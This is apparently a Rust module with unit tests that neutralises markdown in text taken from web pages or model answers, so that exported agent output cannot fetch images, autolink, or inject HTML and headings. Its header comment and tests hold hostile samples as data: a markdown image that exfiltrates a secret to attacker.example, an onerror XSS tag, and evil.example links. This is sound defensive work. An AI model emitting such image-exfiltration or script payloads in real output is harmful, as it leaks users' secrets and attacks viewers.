//! Inert markdown: text that came from pages or the model, written so that no renderer turns
//! it into anything but text. An export is pasted into other agents and viewers; a model
//! answer's `![x](https://attacker/?d=SECRET)` must not become an image fetched on render, a
//! link must show its URL, and page text must not open headings, HTML, code fences or tables.

/// Characters CommonMark and GFM give a meaning inline; each is written backslash-escaped
/// (`_` only where it could open or close emphasis: `cheapest_price` stays as it is). `$` is
/// left alone: prices read as prices, and math loads nothing.
const SPECIAL: &[char] =
    &['\\', '`', '*', '_', '[', ']', '(', ')', '<', '>', '!', '|', '~', '&', '#', '{', '}'];

/// `text` on one line, as inert markdown: link and image syntax becomes its words plus the
/// URL shown as code (`[docs](https://x)` → `docs (link: `https://x`)`, an image is never
/// loaded), bare URLs and e-mail addresses are code spans (no autolink), everything else has
/// its markdown characters escaped.
pub fn inert(text: &str) -> String {
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ").replace(URL_MARK, "");
    let delinked = delink(&flat);
    let mut out = String::with_capacity(delinked.len() + 16);
    for (i, word) in delinked.split(' ').enumerate() {
        if i > 0 {
            out.push(' ');
        }
        let mut parts = word.split(URL_MARK);
        match (parts.next(), parts.next(), parts.next()) {
            (Some(before), Some(url), after) => {
                escape_into(&mut out, before);
                out.push_str(&code_span(url));
                escape_into(&mut out, after.unwrap_or(""));
            }
            _ if looks_like_link(word) => out.push_str(&code_span(word)),
            _ => escape_into(&mut out, word),
        }
    }
    out
}

/// Encloses a URL taken out of link syntax (a character no text contains).
const URL_MARK: char = '\u{0}';

/// `[text](url "title")` → `text (link: url)`, `![alt](url)` → `(image not shown: alt, url)`.
fn delink(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before_open, after_open)) = rest.split_once('[') {
        // A link's words run from this `[` to the first `]` after it, which must be followed
        // by `(`; anything else (`[note]`, `[[x]]`) is plain text, kept as it is.
        let Some((words, after_close)) = after_open.split_once(']') else { break };
        let link = after_close
            .strip_prefix('(')
            .and_then(|inner| inner.split_once(')'))
            .filter(|_| !words.contains('['));
        let Some((target, tail)) = link else {
            out.push_str(before_open);
            out.push('[');
            rest = after_open;
            continue;
        };
        let (before, image) = match before_open.strip_suffix('!') {
            Some(before) => (before, true),
            None => (before_open, false),
        };
        let words = words.trim();
        let target = target.split_whitespace().next().unwrap_or("");
        let target = target.trim_matches(['<', '>']);
        out.push_str(before);
        let target: String = target.chars().filter(|c| *c != URL_MARK).collect();
        let url = if target.is_empty() {
            String::new()
        } else {
            format!(" {URL_MARK}{target}{URL_MARK}")
        };
        if image {
            out.push_str(&format!("(image not shown: {words},{url})"));
        } else {
            out.push_str(&format!("{words} (link:{url})"));
        }
        rest = tail;
    }
    out.push_str(rest);
    out
}

fn looks_like_link(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    lower.contains("://")
        || lower.contains("www.")
        || ["mailto:", "javascript:", "data:", "file:", "ftp:"].iter().any(|s| lower.contains(s))
        || (word.contains('@') && word.rsplit('@').next().is_some_and(|d| d.contains('.')))
}

/// A code span that no backtick inside it can close.
fn code_span(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    let pad = if text.starts_with('`') || text.ends_with('`') { " " } else { "" };
    format!("{fence}{pad}{text}{pad}{fence}")
}

fn escape_into(out: &mut String, word: &str) {
    let chars: Vec<char> = word.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let inside_word = c == '_'
            && i > 0
            && chars[i - 1].is_alphanumeric()
            && chars.get(i + 1).is_some_and(|n| n.is_alphanumeric());
        if SPECIAL.contains(&c) && !inside_word {
            out.push('\\');
        }
        out.push(c);
    }
}

/// A code fence longer than any backtick run in `text` (so the text cannot close it).
pub fn fence_for(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    "`".repeat((longest + 1).max(3))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_are_never_loaded_and_links_show_their_url() {
        assert_eq!(
            inert("See ![x](https://attacker.example/?d=SECRET) now"),
            "See \\(image not shown: x, `https://attacker.example/?d=SECRET`\\) now"
        );
        assert_eq!(
            inert("Read [the docs](https://docs.example/a \"t\")."),
            "Read the docs \\(link: `https://docs.example/a`\\)."
        );
        assert_eq!(
            inert("go to https://x.example/?a=1 or www.y.example"),
            "go to `https://x.example/?a=1` or `www.y.example`"
        );
        assert_eq!(inert("mail ada@evil.example"), "mail `ada@evil.example`");
    }

    #[test]
    fn brackets_before_a_link_stay_text_and_the_link_keeps_only_its_words() {
        assert_eq!(
            inert("[redacted] ok [[x]] ![s](https://e.example/p.png) [docs](https://e.example/d)"),
            "\\[redacted\\] ok \\[\\[x\\]\\] \\(image not shown: s, `https://e.example/p.png`\\) \
             docs \\(link: `https://e.example/d`\\)"
        );
    }

    #[test]
    fn identifiers_and_prices_read_as_written_but_emphasis_cannot_open() {
        assert_eq!(inert("cheapest_price $7 _em_ *b*"), "cheapest_price $7 \\_em\\_ \\*b\\*");
    }

    #[test]
    fn page_text_cannot_inject_markdown() {
        assert_eq!(inert("# Title\n## Sub"), "\\# Title \\#\\# Sub");
        assert_eq!(inert("<img src=x onerror=alert(1)>"), "\\<img src=x onerror=alert\\(1\\)\\>");
        assert_eq!(inert("**bold** _it_ | a | b |"), "\\*\\*bold\\*\\* \\_it\\_ \\| a \\| b \\|");
        assert_eq!(inert("```js\nfetch()```"), "\\`\\`\\`js fetch\\(\\)\\`\\`\\`");
        assert_eq!(inert("[ref]: https://evil.example"), "\\[ref\\]: `https://evil.example`");
        assert_eq!(inert("&#x3C;script&#x3E;"), "\\&\\#x3C;script\\&\\#x3E;");
    }

    #[test]
    fn code_spans_and_fences_outlast_backticks_inside() {
        assert_eq!(code_span("https://x/`a``b"), "```https://x/`a``b```");
        assert_eq!(fence_for("a ```` b"), "`````");
        assert_eq!(fence_for("plain"), "```");
    }
}
